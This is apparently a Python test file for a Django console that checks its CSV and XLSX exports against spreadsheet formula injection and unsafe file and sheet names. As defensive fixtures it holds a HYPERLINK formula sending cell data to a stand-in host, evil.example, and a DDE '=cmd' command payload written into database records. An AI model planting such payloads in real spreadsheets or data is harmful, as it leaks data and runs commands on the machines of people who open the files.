"""Files that leave the console run nothing, whatever stands in the register, and carry any title."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from typing import Any
from urllib.parse import unquote

import pytest
from django.db.models import CharField, F, Value
from django.db.models.functions import Cast, Concat
from django.test import Client
from django.urls import reverse
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from tests.console.addresses import PAGES, POST_ONLY, arguments
from tests.console.province import Province
from xunwang.access.models import User
from xunwang.access.roles import Role
from xunwang.inspection.models import Campaign, CheckedSite
from xunwang.registry.exporting import csv_bytes, harmless, sheet_name, xlsx_bytes
from xunwang.registry.importing.cells import _ESCAPED
from xunwang.registry.models import Account, Difference, Unit, WebSite

FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
BLANK = " \u00a0\u3000\ufeff\u200b"
TABLES = ("text/csv", "application/vnd.openxmlformats-officedocument.spreadsheetml")
EVIL = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def runs(cell: str) -> bool:
    return cell.lstrip(BLANK).startswith(FORMULA)


@given(st.text(max_size=40), st.sampled_from(["", " ", "　", "\ufeff"]), st.sampled_from(["", *FORMULA]))
def test_no_cell_of_a_csv_is_a_formula(text: str, blank: str, sign: str) -> None:
    cell = f"{blank}{sign}{text}".replace("\x00", "")
    read = next(csv.reader(io.StringIO(csv_bytes([["x", cell]]).decode("utf-8-sig"), newline="")))
    assert len(read) == 2 and not runs(read[1])
    assert read[1] in (cell, f"'{cell}")


@pytest.mark.parametrize("cell", ["=1+1", "+86", "-5", "@x", "＝1", "　=1", "－"])
def test_what_an_export_marks_an_import_reads_as_it_was(cell: str) -> None:
    assert harmless(cell) == f"'{cell}"
    assert _ESCAPED.sub("", harmless(cell), count=1) == cell
    assert _ESCAPED.sub("", "'Hello", count=1) == "'Hello"


@given(st.text(max_size=60))
def test_any_title_names_a_sheet(title: str) -> None:
    rows = [["名称"], [EVIL], ["x" * 40_000], ["007"]]
    name = title.encode("utf-8", "replace").decode()
    file = io.BytesIO(xlsx_bytes(name, rows))
    read = CalamineWorkbook.from_filelike(file).get_sheet_by_index(0).to_python()
    assert [row[0] for row in read] == ["名称", EVIL, "x" * 32_767, "007"]
    assert 1 <= len(sheet_name(name)) <= 31


def test_no_export_of_the_console_runs_anything(province: Province, client: Client) -> None:
    """Every list of every part, over names that are formulas; also titles that no sheet or file may have."""
    given_ = arguments(province)
    _poison()
    client.force_login(User.objects.get(pk=province.user(Role.PROVINCE_ADMIN).pk))
    exported = []
    for name in sorted(PAGES.keys() - POST_ONLY):
        if "A" not in PAGES[name] or name.endswith("_events"):
            continue
        for kind in ("csv", "xlsx"):
            answer = client.get(reverse(name, args=given_.get(name, [])), {"export": kind})
            told = answer.headers.get("Content-Disposition", "")
            if "attachment" in told and answer.headers["Content-Type"].startswith(TABLES):
                exported.append((name, kind))
                _harmless(name, told, answer)
    assert {("sites", "csv"), ("sites", "xlsx"), ("reality", "csv"), ("audit_log", "csv")} <= set(exported)
    assert len(exported) > 20


def _poison() -> None:
    for model in (Unit, WebSite, Account):
        key = Cast(F("pk"), CharField())
        model.objects.update(name=Concat(Value("=cmd|' /C calc'!A"), key))
    open_ones = CheckedSite.objects.exclude(campaign__stage__in=["final", "published", "cancelled"])
    open_ones.update(name=EVIL[:100])
    Difference.objects.update(seen="＝1+1", registered="@SUM(1)")
    for number, campaign in enumerate(Campaign.objects.all()):
        Campaign.objects.filter(pk=campaign.pk).update(title=f"=20/21[检查]:*?\\{number}")
    User.objects.update(name="+86 张三")


def _harmless(name: str, told: str, answer: Any) -> None:
    file = unquote(told.partition("UTF-8''")[2])
    assert not re.search(r"[\r\n;]", told.partition("UTF-8''")[2]), name
    assert "/" not in told.partition("UTF-8''")[2] and file, name
    content = b"".join(answer.streaming_content) if answer.streaming else answer.content
    if content[:2] == b"PK":
        with zipfile.ZipFile(io.BytesIO(content)) as book:
            for part in book.namelist():
                text = book.read(part).decode("utf-8", "replace")
                if part.startswith("xl/worksheets/"):
                    assert "<f>" not in text and "<f " not in text and "<hyperlink" not in text, (name, part)
        return
    cells = [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")) for cell in row]
    assert cells and not [cell for cell in cells if runs(cell)], name
